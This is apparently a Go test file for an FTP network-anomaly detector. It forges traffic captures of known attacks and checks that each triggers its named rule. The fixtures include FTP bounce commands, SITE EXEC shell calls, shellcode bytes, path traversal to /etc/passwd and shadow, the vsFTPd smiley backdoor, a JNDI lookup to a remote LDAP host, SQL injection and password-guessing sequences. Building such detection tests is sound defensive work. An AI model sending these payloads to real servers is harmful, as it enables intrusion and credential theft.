@@ -1,0 +1,207 @@
+// Attacks, with the rule that a specialist would name.
+
+package baseline
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"ftplab/lab/internal/forge"
+)
+
+// attacks are what must be caught, and the rule that a specialist would name.
+var attacks = []struct {
+	name, rule string
+	play       func(*forge.Capture)
+}{
+	{"a bounce to a mail server", "own-address", session1("> PORT 203,0,113,25,0,25\n< 200 ok\n> RETR letter\n< 150 here\n< 226 done")},
+	{"a bounce scan", "own-address", session1("> PORT 192,0,2,80,0,80\n< 200 ok\n> LIST\n< 425 no\n> PORT 192,0,2,81,31,144\n< 200 ok\n> LIST\n< 226 done")},
+	{"a bounce to a neighbour", "own-address", func(f *forge.Capture) {
+		dial(f, "10.1.1.5", "10.1.2.9:21").Say(hello).Say("> PORT 10,1,1,6,31,64\n> QUIT\n< 221 bye").Close()
+	}},
+	{"a test of the bounce", "own-address", func(f *forge.Capture) {
+		dial(f, "192.168.1.5", "192.168.1.9:21").Say(hello).Say("> PORT 203,0,113,62,80,80\n< 200 ok\n> QUIT\n< 221 bye").Close()
+	}},
+	{"five hundred PORTs", "own-address", func(f *forge.Capture) {
+		t := dial(f, "10.0.0.1", "10.0.0.2:21").Say("< 220 ready")
+		for i := range 500 {
+			t.Say(fmt.Sprintf("> PORT 10,0,0,200,%d,%d", 80+i/256, i%256))
+		}
+	}},
+	{"all commands before the greeting", "server-greets-first", dialogue("> USER a\n> PASS b\n> SYST\n> QUIT\n< 220 ready\n< 331 x\n< 230 x\n< 215 x\n< 221 x")},
+	{"a server that quits", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< 331 x\n> PASS p\n< 230 in\n> EPRT |1|198.51.100.100|5000|\n< 200 ok\n< QUIT\n< 221 bye")},
+	{"a server that logs in", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< USER u\n> PASS p\n< PASS p\n< 230 in")},
+	{"an answer in front of its question", "reply-answers-command", func(f *forge.Capture) {
+		t := f.Control().Say("< 220 ready\n> USER a")
+		t.Peer.Segment("P.", "331 ok\r\n550 BBBB")
+		t.Say("> PWD")
+		t.Peer.Segment("P.", "CCCC\r\n226 done\r\n")
+	}},
+	{"answers to another dialogue", "reply-fits-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n+ 550 no\n> PWD\n< 226 done")},
+	{"a welcome before the password", "reply-answers-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n< 230 in\n> PASS x")},
+	{"a name that overflows", "arguments-of-normal-length", session1("> RETR " + strings.Repeat("A", 4000) + "\n< 550 no")},
+	{"a user that overflows", "arguments-of-normal-length", dialogue("< 220 ready\n> USER " + strings.Repeat("Aa0", 100) + "\n< 331 go on")},
+	{"a verb that overflows", "arguments-of-normal-length", session1("> TYP" + strings.Repeat("E", 120) + " I\n< 200 ok")},
+	{"a PORT that is none", "announcement-well-formed", dialogue("< 220 ready\n> PORT AAAAAAAAAAAAAAAAAAAAAAAAAAA\n+ QUIT\n< 221 bye")},
+	{"an answer without a code", "reply-well-formed", session1("> SYST\n< SYST not supported")},
+	{"a code without a blank", "reply-well-formed", session1("> RETR a\n< 230_no_space")},
+	{"a reply that overflows", "reply-of-normal-length", session1("> PASV\n< 227 " + strings.Repeat("A", 9000))},
+	{"SSH", "ftp-at-the-ftp-port", ruleTests["ftp-at-the-ftp-port"].breaks},
+	{"a binary protocol", "ftp-at-the-ftp-port", func(f *forge.Capture) {
+		t := f.Control()
+		t.Segment("P.", "\x01\x00\x00\x00\x10\x00\x00\x00beacon\x00\x01")
+		t.Peer.Segment("P.", "\x02\x00\x00\x00\x08\x00\x00\x00")
+		t.Close()
+	}},
+	{"a web request", "commands-are-ftp", dialogue("< 220 ready\n> GET / HTTP/1.1\n+ Host: x\n< 500 what?\n< 500 what?")},
+	{"SITE EXEC", "no-known-exploits", session1("> SITE EXEC /bin/sh -c id\n< 200 ok")},
+	{"memory read by SITE EXEC", "no-format-strings", session1("> SITE EXEC %.f%.f%.f%.f|%p\n< 200 x")},
+	{"machine code", "arguments-are-text", session1("> MKD " + strings.Repeat("\x90", 100) + "\x31\xc0\x31\xdb\xcd\x80/bin/sh\n< 550 no")},
+	{"a traversal", "no-climbing", session1("> RETR ../../../../../../etc/passwd\n< 150 here\n< 226 done")},
+	{"a traversal in disguise", "no-climbing", session1("> RETR ..%5c..%5cboot.ini\n< 550 no")},
+	{"a traversal with dots", "no-climbing", session1("> CWD ..../..../windows\n< 250 ok\n> RETR .../.../x\n< 550 no")},
+	{"the smiley", "no-known-exploits", func(f *forge.Capture) {
+		t := f.Control().Say("< 220 (vsFTPd 2.3.4)\n> USER letmein:)\n< 331 go on\n> PASS x")
+		dial(f, aClient, aServer+":6200").Say("> id\n< uid=0(root)").Close()
+		t.Segment("R.", "")
+	}},
+	{"a look-up", "no-known-exploits", dialogue("< 220 ready\n> USER ${jndi:ldap://203.0.113.66/a}\n< 331 go on")},
+	{"injected SQL", "no-known-exploits", dialogue("< 220 ready\n> USER %') and 1=2 union select 1,1,uid,gid from ftp; --\n< 331 go on\n> PASS 1\n< 230 in")},
+	{"loot", "no-known-exploits", session1("> PASV\n< 227 (192,0,2,21,100,0)\n> STOR PW_admin-DESKTOP-1_2023_01_31_12_00_00.html\n< 150 here\n< 226 done")},
+	{"a dictionary in one session", "no-guessing", func(f *forge.Capture) {
+		t := f.Control().Say("< 220 hi")
+		for i := range 12 {
+			f.Pass(10 * time.Second)
+			t.Say(fmt.Sprintf("> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i))
+		}
+	}},
+	{"a dictionary that finds the word", "no-guessing", func(f *forge.Capture) {
+		for i := range 7 {
+			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i)).Close()
+		}
+		f.Control().Say(hello)
+	}},
+	{"a dictionary of which the answers are seen", "no-guessing", func(f *forge.Capture) {
+		for range 12 {
+			overhear(f, aClient, aServer+":21").Say("< 530 no")
+		}
+	}},
+	{"a dictionary without its answers", "no-guessing", func(f *forge.Capture) {
+		for i := range 12 {
+			overhear(f, aClient, aServer+":21").Say(fmt.Sprintf("> USER admin\n> PASS pw%d", i))
+		}
+	}},
+	{"a sweep", "no-scans", func(f *forge.Capture) {
+		knocks(f, 30, func(i int) string { return fmt.Sprintf("192.0.2.%d:21", i+1) })
+	}},
+	{"a sweep that waits for the greeting, once an hour", "no-scans", func(f *forge.Capture) {
+		for i := range 12 {
+			dial(f, aClient, fmt.Sprintf("192.0.%d.21:21", i)).Say("< 220 ready").Close()
+			f.Pass(time.Hour)
+		}
+	}},
+	{"a sweep of a web server's port, and then a session", "no-scans", func(f *forge.Capture) {
+		for i := range 15 {
+			refuse(f, aClient, fmt.Sprintf("192.0.2.%d:8080", i+10))
+		}
+		session1("")(f)
+	}},
+	{"a scan, and then a session", "no-scans", func(f *forge.Capture) {
+		scan(f, time.Second, 20)
+		session1("")(f)
+	}},
+	{"a scan with flags that begin nothing", "no-scans", func(f *forge.Capture) {
+		for i := range 12 {
+			t := overhear(f, aClient, addrPort(aServer, 20+i))
+			t.Segment("FPU", "")
+			t.Peer.Segment("R.", "")
+		}
+	}},
+	{"a shell at a third port", "no-third-ports", func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		dial(f, aServer, aClient+":4444").Say("> Microsoft Windows [Version 10.0.1]\n< dir").Close()
+		t.Say(bye).Peer.Close()
+	}},
+	{"the port of a back door", "no-third-ports", func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		dial(f, aClient, aServer+":6200").Say("> open\n< sesame").Close()
+		t.Say(bye).Peer.Close()
+	}},
+	{"forty passwords, one in two minutes", "no-guessing", func(f *forge.Capture) {
+		for i := range 40 {
+			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER bob\n< 331 and?\n> PASS guess%d\n< 530 no", i) + bye).Close()
+			f.Pass(2 * time.Minute)
+		}
+	}},
+	{"five famous passwords, and then the right one", "no-guessing", func(f *forge.Capture) {
+		for _, p := range []string{"123456", "admin", "password", "letmein", "qwerty"} {
+			f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS " + p + "\n< 530 no" + bye).Close()
+			f.Pass(time.Minute)
+		}
+		f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS monkey\n< 230 in\n> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no" + bye).Close()
+	}},
+	{"one password at many servers", "no-guessing", func(f *forge.Capture) {
+		for i := range 12 {
+			dial(f, aClient, fmt.Sprintf("192.0.2.%d:21", i+10)).Say("< 220 hi\n> USER root\n< 331 and?\n> PASS winter\n< 530 no" + bye).Close()
+		}
+	}},
+	{"one user from many clients", "no-guessing", func(f *forge.Capture) {
+		for i := range 12 {
+			dial(f, fmt.Sprintf("198.51.100.%d", i+10), aServer+":21").Say(fmt.Sprintf("< 220 hi\n> USER root\n< 331 and?\n> PASS pw%d\n< 530 no", i) + bye).Close()
+		}
+	}},
+	{"a traversal in two steps", "no-climbing", session1("> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no")},
+	{"a folder of the system, and its accounts", "no-signs-agree", session1("> CWD ../../etc\n< 250 ok\n> CWD /\n< 250 ok\n> RETR etc/shadow\n< 550 no")},
+	{"an odd port and odd words", "no-signs-agree", func(f *forge.Capture) {
+		dial(f, aClient, aServer+":31337").Say(hello).Say("> SHELL\n< 200 ok\n> INJECT 7\n< 200 ok").Say(bye).Peer.Close()
+	}},
+	{"five programs, and a record stored again and again", "no-signs-agree", func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		for _, name := range []string{"q", "w", "e", "r", "t"} {
+			t.Say("> RETR " + name + ".exe\n< 150 here\n< 226 done")
+		}
+		t.Say(strings.Repeat("> STOR record.dat\n< 150 go on\n< 226 done\n", 5)).Say(bye).Peer.Close()
+	}},
+	{"a program with the name of a picture, and a tool", "no-signs-agree", func(f *forge.Capture) {
+		moved("RETR holiday.jpg", answerer, "MZ\x90")(f)
+		moved("STOR id_rsa", opener, "----")(f)
+	}},
+	{"the greeting of a worm", "no-known-exploits", func(f *forge.Capture) {
+		dial(f, aClient, aServer+":9604").Say("< 220 StnyFtpd 0wns j0\n> USER 1\n< 331 x\n> PASS 1\n< 230 x").Close()
+	}},
+	{"nothing fits, a reply too many, and then it dies", "no-signs-agree", func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> TYPE I\n< 226 ok\n> PWD\n< 257 \"/\"\n< 257 \"/\"\n> SYST")
+		t.Peer.Segment("R.", "")
+	}},
+	{"a bounce to a host inside", "own-address", func(f *forge.Capture) {
+		t := dial(f, "203.0.113.5", "10.0.0.2:21").Say(hello).Say("> PORT 10,0,0,200,31,64\n< 200 ok\n> RETR letter\n< 150 here")
+		download(f, "10.0.0.2:20", "10.0.0.200:8000", opener, 500)
+		t.Say("< 226 done").Say(bye).Peer.Close()
+	}},
+	{"CWD for ever", "no-floods", func(f *forge.Capture) {
+		overhear(f, aClient, aServer+":21").Say("< 220 hi\n> USER a\n< 331 and?\n> PASS b\n< 230 in\n" + strings.Repeat("> CWD /\n< 250 ok\n", 10) + "> QUIT\n< 221 bye")
+	}},
+	{"ports used up", "announcement-used", session1(strings.Repeat("> PASV\n< 227 (192,0,2,21,100,0)\n", 30))},
+	{"a stolen download", "data-with-the-partner", ruleTests["data-with-the-partner"].breaks},
+	{"a shell on a data connection", "data-flows-one-way", ruleTests["data-flows-one-way"].breaks},
+	{"commands out of two captures", "retransmission-repeats", func(f *forge.Capture) {
+		t := overhear(f, aClient, aServer+":21")
+		t.Segment("P.", "USER one\r\n")
+		t.SegmentAt(-10, "P.", "FEAT two\r\n")
+		t.Peer.Segment("P.", "250 ok\r\n")
+		t.Peer.SegmentAt(-8, "P.", "226 no\r\n")
+	}},
+}
+
+func TestAttacks(t *testing.T) {
+	for _, test := range attacks {
+		t.Run(test.name, func(t *testing.T) {
+			got := forged(t, test.play)
+			if got.Verdict != NotNormal || count(got, test.rule, Violation) == 0 {
+				t.Errorf("got %v\nwant %s, for %s", got, NotNormal, test.rule)
+			}
+		})
+	}
+}
